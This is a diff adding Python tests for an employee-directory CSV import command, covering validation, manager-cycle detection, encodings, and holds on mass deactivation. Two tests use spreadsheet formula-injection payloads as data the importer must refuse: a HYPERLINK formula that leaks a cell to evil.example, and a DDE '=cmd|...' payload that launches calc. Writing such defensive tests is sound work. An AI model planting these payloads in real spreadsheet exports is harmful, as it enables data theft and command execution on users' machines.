@@ -216,3 +216,164 @@ def test_import_csv_realistic_file(app, db, tmp_path):
         "Müller-Łukasz 43", "E0009", "Asia/Tokyo", "Analyst, Senior")
     again = cli(app, "import-csv", str(path))
     assert again.exit_code == 0 and "0 created, 0 updated, 300 unchanged" in again.output
+
+
+def canonical_rows(*rows: list[str]) -> str:
+    return "\n".join([CANONICAL, *(",".join(r) for r in rows)]) + "\n"
+
+
+def row(eid: str, email: str | None = None, *, name: str = "", manager: str = "", status: str = "active",
+        office: str = "Berlin", title: str = "Analyst") -> list[str]:
+    email = f"{eid.lower()}@contoso.test" if email is None else email
+    return [eid, email, name or f"Person {eid}", "Sales", "Corporate", "EMEA", "DE", office, title, "4", manager,
+            "Europe/Berlin", "de", status]
+
+
+def import_text(app: Any, tmp_path: Any, text: str | bytes, name: str = "people.csv") -> Any:
+    path = tmp_path / name
+    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
+    return cli(app, "import-csv", str(path))
+
+
+def refused(result: Any, *expected: str) -> None:
+    """The command exited 1 with a line-numbered report (never a traceback) naming each expected problem."""
+    assert result.exit_code == 1, result.output
+    assert isinstance(result.exception, SystemExit) and "Traceback" not in result.output
+    assert "nothing was imported" in result.output
+    for text in expected:
+        assert text in result.output, result.output
+
+
+def test_import_csv_is_a_recorded_run(app, db, tmp_path):
+    """import-csv leaves a run record (source csv, file, counts); a refused file leaves a failed run with the report."""
+    assert import_text(app, tmp_path, canonical_rows(row("E1"), row("E2", manager="E1"))).exit_code == 0
+    run = last_run(db)
+    assert (run.source, run.mode, run.trigger, run.status, run.file_name) == ("csv", "file", "cli", "succeeded",
+                                                                              "people.csv")
+    assert (run.seen, run.created, run.rows) == (2, 2, 2) and run.file_sha256
+    refused(import_text(app, tmp_path, canonical_rows(row("E3", status="gone"))), "line 2: status 'gone'")
+    run = last_run(db)
+    assert run.status == "failed" and "line 2: status 'gone'" in run.error
+    assert set(employees(db)) == {"E1", "E2"}
+
+
+def test_import_csv_mass_deactivation_is_held_for_an_admin(app, db, tmp_path, client_for, make_employee):
+    """A file that would deactivate more than the guard allows changes nothing until an admin approves it."""
+    everyone = [row(f"E{i:03d}") for i in range(40)]
+    assert import_text(app, tmp_path, canonical_rows(*everyone)).exit_code == 0
+    leavers = [row(f"E{i:03d}", status="inactive" if i < 30 else "active") for i in range(40)]
+    result = import_text(app, tmp_path, canonical_rows(*leavers))
+    assert result.exit_code == 0 and "held" in result.output and "approve" in result.output
+    assert all(p.active for p in employees(db).values())
+    held = last_run(db)
+    assert held.status == "held" and "deactivate 30 of 40" in held.error
+    admin = client_for(make_employee(is_admin=True))
+    page = admin.get(f"/admin/directory/runs/{held.id}").get_data(as_text=True)
+    assert "E000" in page
+    admin.post(f"/admin/directory/runs/{held.id}/approve", data={"csrf_token": admin.csrf})
+    people = employees(db)
+    assert sum(not p.active for p in people.values()) == 30 and last_run(db).status == "approved"
+
+
+def test_import_csv_reactivates_only_on_explicit_status(app, db, tmp_path):
+    """status=active brings someone back; an empty status and absence from the file change nothing."""
+    import_text(app, tmp_path, canonical_rows(row("E1", status="inactive"), row("E2")))
+    result = import_text(app, tmp_path, canonical_rows(row("E1", status=""), row("E3")))
+    assert "1 created, 0 updated, 1 unchanged, 0 deactivated" in result.output
+    assert (employees(db)["E1"].active, employees(db)["E2"].active) == (False, True)
+    result = import_text(app, tmp_path, canonical_rows(row("E1", status="active")))
+    assert "0 created, 1 updated, 0 unchanged" in result.output and employees(db)["E1"].active
+
+
+def test_import_csv_truncated_last_row(app, db, tmp_path):
+    """A file cut off in its last row is refused (the row has too few cells), naming the line."""
+    text = canonical_rows(row("E1"), row("E2"), row("E3"))
+    refused(import_text(app, tmp_path, text[:-40]), "line 4: 8 cells but the header has 14 (a truncated row?)")
+    assert employees(db) == {}
+
+
+def test_import_csv_unclosed_quote(app, db, tmp_path):
+    """A quote that never closes is reported at the line it opens, whether it swallows lines or hits the end."""
+    lines = canonical_rows(row("E1"), row("E2", name='"Person E2'), row("E3")).splitlines()
+    refused(import_text(app, tmp_path, "\n".join(lines) + "\n"), "line 3: a quote opened in this record is never closed")
+    lines.append('E4,e4@contoso.test,"Four",Sales,Corporate,EMEA,DE,Berlin,"Analyst"x,4,,Europe/Berlin,de,active')
+    refused(import_text(app, tmp_path, "\n".join(lines) + "\n"), "line 3: the CSV quoting is broken",
+            "runs from line 3 to line 5")
+    assert employees(db) == {}
+
+
+def test_import_csv_refuses_formula_cells(app, db, tmp_path):
+    """Cells a spreadsheet would run as formulas are refused, each with its line, and nothing is imported."""
+    text = canonical_rows(
+        row("E1"),
+        row("=1+1"),
+        row("E3", name='"=HYPERLINK(""https://evil.example/?""&A1,""Click"")"'),
+        row("E4", title="+SUM(A1:A9)"),
+        row("E5", office="@Berlin"),
+        row("E6", name="-2+3"),
+        row("E7", office='"\tTab"'),
+    )
+    refused(import_text(app, tmp_path, text), "line 3: employee_id '=1+1' starts with '='",
+            "line 4: display_name '=HYPERLINK(", "line 5: job_title '+SUM(A1:A9)' starts with '+'",
+            "line 6: office '@Berlin' starts with '@'", "line 7: display_name '-2+3' starts with '-'",
+            "line 8: office 'Tab' starts with '\\t'")
+    assert employees(db) == {}
+
+
+def test_import_csv_refuses_manager_cycles(app, db, tmp_path):
+    """A manager loop within the file, or closed through people already in the directory, is refused."""
+    import_text(app, tmp_path, canonical_rows(row("C1"), row("C2", manager="C1")))
+    result = import_text(app, tmp_path, canonical_rows(row("A1", manager="A2"), row("A2", manager="A1"),
+                                                       row("C1", manager="C2")))
+    refused(result, "line 2: the manager chain loops: A1 -> A2 -> A1", "line 3: the manager chain loops: A2 -> A1 -> A2",
+            "line 4: the manager chain loops: C1 -> C2 -> C1")
+    assert set(employees(db)) == {"C1", "C2"} and employees(db)["C1"].manager_id is None
+
+
+def test_import_csv_refuses_duplicate_emails(app, db, tmp_path, make_employee, client_for):
+    """Emails are compared without case, in the file and against the directory: a second ADMIN@ cannot lock the admin out."""
+    admin = make_employee(employee_id="A0", email="admin@contoso.test", is_admin=True)
+    result = import_text(app, tmp_path, canonical_rows(row("E1", "ana@contoso.test"), row("E2", "ANA@Contoso.test"),
+                                                       row("E3", "ADMIN@contoso.test")))
+    refused(result, "line 3: email 'ana@contoso.test' also appears on line 2",
+            "line 4: email 'admin@contoso.test' already belongs to employee A0")
+    assert set(employees(db)) == {"A0"}
+    client = client_for(None)
+    response = client.post("/auth/dev-login", data={"email": "admin@contoso.test", "csrf_token": client.csrf})
+    assert response.status_code == 302
+    assert client.get("/admin/directory/").status_code == 200
+    # Moving an email from one person to another in the same file is fine.
+    import_text(app, tmp_path, canonical_rows(row("E1", "ana@contoso.test")))
+    moved = import_text(app, tmp_path, canonical_rows(row("E1", "ana.old@contoso.test"), row("E2", "ana@contoso.test")))
+    assert moved.exit_code == 0, moved.output
+    assert admin.id is not None
+
+
+def test_import_csv_utf16_and_cp1252(app, db, tmp_path):
+    """Excel's UTF-16 (with or without BOM) is read; a cp1252 file is refused with how to save it as UTF-8."""
+    text = canonical_rows(row("E1", name="Zoë Łukasiewicz"), row("E2", name="Jürgen Groß"))
+    assert import_text(app, tmp_path, text.encode("utf-16")).exit_code == 0
+    assert import_text(app, tmp_path, text.replace("Zoë", "Zoé").encode("utf-16-le")).exit_code == 0
+    assert employees(db)["E1"].display_name == "Zoé Łukasiewicz"
+    legacy = canonical_rows(row("E1"), row("E3", name="René Müller")).encode("cp1252")
+    refused(import_text(app, tmp_path, legacy), "line 3: byte 0xE9 (column 23) is not UTF-8", "CSV UTF-8")
+    assert set(employees(db)) == {"E1", "E2"}
+
+
+def test_import_csv_huge_field_and_long_values(app, db, tmp_path):
+    """A cell over the csv module's limit, or longer than its column, is a line in the report, not a traceback."""
+    refused(import_text(app, tmp_path, canonical_rows(row("E1"), row("E2", title="x" * 300))),
+            "line 3: job_title is 300 characters long; at most 255 fit")
+    refused(import_text(app, tmp_path, canonical_rows(row("E1"), row("E2", title="x" * 131_073))),
+            "line 3: a cell is longer than 131,072 characters")
+    assert employees(db) == {}
+
+
+def test_import_csv_reports_every_problem_at_once(app, db, tmp_path):
+    """Problems of different kinds in one file come back in one report, in line order."""
+    text = canonical_rows(row("E1"), row("E2", "e1@contoso.test"), row("E3", title="=cmd|'/c calc'!A1"),
+                          row("E4", manager="E9"), row("E5", manager="E6"), row("E6", manager="E5"))
+    refused(import_text(app, tmp_path, text + "E7,e7@contoso.test,Seven\n"),
+            "line 3: email 'e1@contoso.test' also appears on line 2", "line 4: job_title", "line 5: manager_id 'E9'",
+            "line 6: the manager chain loops", "line 7: the manager chain loops", "line 8: 3 cells")
+    assert employees(db) == {}
